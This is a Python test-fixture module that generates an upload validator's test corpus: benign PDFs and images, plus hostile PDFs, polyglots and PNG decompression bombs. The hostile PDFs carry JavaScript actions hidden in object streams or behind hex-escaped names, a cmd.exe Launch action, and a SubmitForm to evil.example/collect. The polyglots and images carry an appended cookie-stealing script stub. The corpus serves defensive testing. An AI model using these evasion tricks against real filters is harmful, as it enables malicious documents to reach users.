"""Files for upload tests, made here (no binaries in the repository): benign PDFs and
images, and a hostile corpus — PDFs with active content in every form we refuse, images
with script appended, and decompression bombs.

PDFs are made two ways: with pikepdf (what a real writer produces, object streams
included), and by hand with `finish_pdf`, which adds a correct cross-reference stream to
objects written as raw text — the only way to keep spellings a writer would normalise,
such as "/Java#53cript", and to put them inside an object stream.
"""

from __future__ import annotations

import io
import re
import struct
import zlib
from collections.abc import Callable

import pikepdf
from PIL import Image

SCRIPT = b"<script>alert(document.cookie)</script>"
HTML_PAYLOAD = b"<html><body>" + SCRIPT + b"</body></html>"


# PDFs ---------------------------------------------------------------------------------


def save(pdf: pikepdf.Pdf, **options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def new_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    return pdf


def benign_pdf(*, object_streams: bool = False) -> bytes:
    """A one-page PDF with a link to a web page (a /URI action that is allowed)."""
    pdf = new_pdf()
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[10, 10, 50, 50],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.com/")),
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    pdf.docinfo["/Title"] = "Sveiseprosedyre"
    mode = pikepdf.ObjectStreamMode.generate if object_streams else pikepdf.ObjectStreamMode.disable
    return save(pdf, object_stream_mode=mode)


_OBJ = re.compile(rb"(?m)^(\d+) 0 obj\b")


def finish_pdf(objects: bytes, *, version: bytes = b"1.7", root: int = 1) -> bytes:
    """`objects` ("N 0 obj … endobj" as raw text) as a complete PDF: header, the objects,
    and a cross-reference stream that lists each object — those inside object streams
    (/Type /ObjStm) as compressed entries — so a parser needs no repair to find them."""
    head = b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n"
    body = head + objects
    entries: dict[int, tuple[int, int, int]] = {}
    for match in _OBJ.finditer(body):
        number = int(match.group(1))
        entries[number] = (1, match.start(), 0)
        end = body.find(b"endobj", match.end())
        text = body[match.end() : end]
        if b"/ObjStm" in text and b"stream" in text:
            data_start = text.index(b"stream") + len(b"stream")
            data_start += 2 if text[data_start : data_start + 2] == b"\r\n" else 1
            data_end = text.rindex(b"endstream")
            raw = text[data_start:data_end].rstrip(b"\r\n")
            try:
                data = zlib.decompress(raw) if b"/FlateDecode" in text else raw
            except zlib.error:
                continue  # a broken object stream: listed as an object, nothing inside
            count = re.search(rb"/N (\d+)", text)
            header = data.split()[: 2 * int(count.group(1))] if count else []
            if not all(item.isdigit() for item in header):
                continue  # not a list of objects: nothing inside to list
            for index in range(len(header) // 2):
                entries[int(header[2 * index])] = (2, number, index)
    size = max(entries) + 2
    xref_number = size - 1
    xref_offset = len(body)
    entries[xref_number] = (1, xref_offset, 0)
    rows = b"".join(
        struct.pack(">BIH", *entries.get(n, (0, 0, 0xFFFF if n == 0 else 0))) for n in range(size)
    )
    xref = (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R /Length %d >>\nstream\n"
        % (xref_number, size, root, len(rows))
        + rows
        + b"\nendstream\nendobj\n"
    )
    return body + xref + b"startxref\n%d\n%%%%EOF\n" % xref_offset


CATALOG = (
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
)


def hand_pdf(*objects: bytes) -> bytes:
    """A one-page PDF with `objects` (numbered from 10 on) written as raw text."""
    return finish_pdf(CATALOG + b"".join(objects))


def object_stream(number: int, objects: dict[int, bytes], **extra: bytes) -> bytes:
    """An object stream (PDF 1.5) `number` holding `objects`, Flate-compressed; `extra`
    keys go into its dictionary (after /Type /ObjStm)."""
    offsets, parts, position = [], [], 0
    for obj_number, text in objects.items():
        offsets.append(b"%d %d" % (obj_number, position))
        parts.append(text + b"\n")
        position += len(text) + 1
    header = b" ".join(offsets) + b"\n"
    data = zlib.compress(header + b"".join(parts))
    extras = b"".join(b" /" + key.encode() + b" " + value for key, value in extra.items())
    return (
        b"%d 0 obj\n<< /Type /ObjStm" % number
        + extras
        + b" /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(objects), len(header), len(data))
        + data
        + b"\nendstream\nendobj\n"
    )


def _with_open_action(action: pikepdf.Dictionary, **options) -> bytes:
    pdf = new_pdf()
    pdf.Root.OpenAction = pdf.make_indirect(action)
    return save(pdf, **options)


def pdf_javascript_open_action() -> bytes:
    return _with_open_action(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )


def pdf_javascript_in_object_stream() -> bytes:
    """Written by qpdf with object streams: the action is compressed, not in the file's text."""
    data = _with_open_action(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
    )
    assert b"JavaScript" not in data and b"/ObjStm" in data
    return data


def pdf_javascript_deep_in_a_padded_object_stream() -> bytes:
    """The object stream's dictionary has one extra key with 5 KiB of value after /Type
    /ObjStm, and the JavaScript lies after 6 KiB of harmless objects in the stream: a check
    that looked only at the 4 KiB before "stream", or the start of the stream, missed it."""
    padding = {20 + n: b"<< /Pad (" + b"x" * 1000 + b") >>" for n in range(6)}
    objects = {**padding, 30: b"<< /S /JavaScript /JS (app.alert(1)) >>"}
    stream = object_stream(40, objects, Pad=b"(" + b"y" * 5000 + b")")
    catalog = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 30 0 R >>\nendobj\n"
    data = finish_pdf(catalog + CATALOG[CATALOG.index(b"2 0 obj") :] + stream, version=b"1.5")
    assert b"JavaScript" not in data
    return data


def pdf_hex_escaped_names() -> bytes:
    """/Java#53cript and /J#53: the names /JavaScript and /JS, written with #xx escapes."""
    return hand_pdf(b"10 0 obj\n<< /S /Java#53cript /J#53 (app.alert(1)) >>\nendobj\n")


def pdf_hex_escaped_launch_in_object_stream() -> bytes:
    return finish_pdf(
        CATALOG + object_stream(11, {10: b"<< /S /L#61unch /F (cmd.exe) >>"}), version=b"1.5"
    )


def pdf_launch() -> bytes:
    return _with_open_action(
        pikepdf.Dictionary(
            S=pikepdf.Name.Launch, F=pikepdf.String("C:\\Windows\\System32\\cmd.exe")
        )
    )


def pdf_xfa() -> bytes:
    pdf = new_pdf()
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
    pdf.Root.AcroForm = pdf.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=xfa))
    return save(pdf)


def pdf_embedded_file() -> bytes:
    pdf = new_pdf()
    pdf.attachments["faktura.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not a program")
    return save(pdf)


def pdf_file_attachment_annotation() -> bytes:
    pdf = new_pdf()
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.FileAttachment,
        Rect=[0, 0, 10, 10],
        Contents=pikepdf.String("vedlegg"),
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))
    return save(pdf)


def pdf_uri_javascript() -> bytes:
    """A link whose target is a script, spelled the way browsers still run it."""
    pdf = new_pdf()
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 100, 100],
        A=pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String(" \tJaVa\nScRiPt:alert(document.domain)")
        ),
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))
    return save(pdf)


def pdf_submit_form() -> bytes:
    return _with_open_action(
        pikepdf.Dictionary(
            S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/collect")
        )
    )


def pdf_import_data() -> bytes:
    return _with_open_action(
        pikepdf.Dictionary(S=pikepdf.Name.ImportData, F=pikepdf.String("data.fdf"))
    )


def pdf_goto_embedded() -> bytes:
    return _with_open_action(
        pikepdf.Dictionary(S=pikepdf.Name.GoToE, D=pikepdf.Array([0, pikepdf.Name.Fit]))
    )


def pdf_rich_media() -> bytes:
    pdf = new_pdf()
    annot = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 10, 10]
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annot)]))
    return save(pdf)


def pdf_page_additional_action() -> bytes:
    """/AA on a page: JavaScript run when the page opens."""
    pdf = new_pdf()
    pdf.pages[0].AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    return save(pdf)


def pdf_encrypted() -> bytes:
    return save(new_pdf(), encryption=pikepdf.Encryption(owner="eier", user="hemmelig"))


def pdf_encrypted_without_user_password() -> bytes:
    """Opens without a password, but is encrypted all the same: its objects are not text."""
    return save(new_pdf(), encryption=pikepdf.Encryption(owner="eier", user=""))


def pdf_html_polyglot() -> bytes:
    return benign_pdf() + HTML_PAYLOAD


def pdf_broken() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\nnot a pdf at all\n%%EOF\n"


# Images -------------------------------------------------------------------------------


def image(fmt: str, size: tuple[int, int] = (16, 12), colour: str = "red") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, fmt)
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bilevel_png(width: int, height: int) -> bytes:
    """A real, decodable 1-bit PNG of `width` × `height`, all black: a few kilobytes that
    unpack to width × height pixels (a decompression bomb when large). Made row by row, so
    making it costs little memory."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(height)]
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", ihdr)
        + png_chunk(b"IDAT", b"".join(parts))
        + png_chunk(b"IEND", b"")
    )


def png_claiming(width: int, height: int) -> bytes:
    """A 1×1 PNG whose header claims `width` × `height` (CRC corrected)."""
    data = bytearray(image("PNG", (1, 1)))
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


# The corpus ----------------------------------------------------------------------------

# Each kind: how to make it, and a part of the message the user must see.
ACTIVE = "PDF-filer med aktivt innhold"
EMBEDDED = "PDF-filer med innebygde filer"
XFA = "PDF-skjemaer av typen XFA"
UNREADABLE = "PDF-filen kan ikke kontrolleres"
POLYGLOT = "HTML eller skript"
TOO_MANY_PIXELS = "Bildet er for stort"

HOSTILE: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # kind: (maker, file name, message)
    "pdf-javascript-openaction": (pdf_javascript_open_action, "faktura.pdf", ACTIVE),
    "pdf-javascript-objstm": (pdf_javascript_in_object_stream, "faktura.pdf", ACTIVE),
    "pdf-javascript-padded-objstm": (
        pdf_javascript_deep_in_a_padded_object_stream,
        "faktura.pdf",
        ACTIVE,
    ),
    "pdf-hex-escaped-names": (pdf_hex_escaped_names, "faktura.pdf", ACTIVE),
    "pdf-hex-escaped-launch-objstm": (
        pdf_hex_escaped_launch_in_object_stream,
        "faktura.pdf",
        ACTIVE,
    ),
    "pdf-launch": (pdf_launch, "faktura.pdf", ACTIVE),
    "pdf-submitform": (pdf_submit_form, "skjema.pdf", ACTIVE),
    "pdf-importdata": (pdf_import_data, "skjema.pdf", ACTIVE),
    "pdf-gotoe": (pdf_goto_embedded, "skjema.pdf", ACTIVE),
    "pdf-richmedia": (pdf_rich_media, "film.pdf", ACTIVE),
    "pdf-uri-javascript": (pdf_uri_javascript, "lenke.pdf", ACTIVE),
    "pdf-page-aa-javascript": (pdf_page_additional_action, "side.pdf", ACTIVE),
    "pdf-xfa": (pdf_xfa, "skjema.pdf", XFA),
    "pdf-embedded-file": (pdf_embedded_file, "vedlegg.pdf", EMBEDDED),
    "pdf-file-attachment-annotation": (pdf_file_attachment_annotation, "notat.pdf", EMBEDDED),
    "pdf-encrypted": (pdf_encrypted, "hemmelig.pdf", UNREADABLE),
    "pdf-encrypted-empty-password": (pdf_encrypted_without_user_password, "x.pdf", UNREADABLE),
    "pdf-broken": (pdf_broken, "skadet.pdf", UNREADABLE),
    "pdf-html-polyglot": (pdf_html_polyglot, "side.pdf", POLYGLOT),
    "png-bomb-20000x20000": (lambda: bilevel_png(20_000, 20_000), "bombe.png", TOO_MANY_PIXELS),
    "png-bomb-8000x8000": (lambda: bilevel_png(8_000, 8_000), "bombe.png", TOO_MANY_PIXELS),
    "png-header-claims-100000x100000": (
        lambda: png_claiming(100_000, 100_000),
        "bombe.png",
        TOO_MANY_PIXELS,
    ),
}

# Images that are accepted, but stored encoded anew: the appended script is gone.
WITH_SCRIPT_APPENDED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "png": (lambda: image("PNG") + HTML_PAYLOAD, "bilde.png", "image/png"),
    "jpeg": (lambda: image("JPEG") + HTML_PAYLOAD, "bilde.jpg", "image/jpeg"),
    "webp": (lambda: image("WEBP") + HTML_PAYLOAD, "bilde.webp", "image/webp"),
}
